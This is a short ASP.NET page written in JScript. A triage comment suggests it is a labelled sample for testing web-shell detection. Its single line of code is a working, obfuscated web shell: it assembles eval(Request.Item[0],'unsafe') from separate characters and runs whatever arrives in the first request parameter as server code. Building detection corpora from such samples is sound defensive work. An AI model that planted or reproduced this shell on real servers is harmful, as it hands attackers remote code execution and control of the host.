<%@ Page Language = Jscript %>
<%-- triage-expect: triage_aspx_jscript_eval --%>
<%var c/*x*/=/*x*/"e"+"v"+"a"+"l"+"("+"R"+"e"+"q"+"u"+"e"+"s"+"t"+"."+"I"+"t"+"e"+"m"+"["+"0"+"]"+","+"\""+"u"+"n"+"s"+"a"+"f"+"e"+"\""+")";eval(c,"u"+"n"+"s"+"a"+"f"+"e");%>
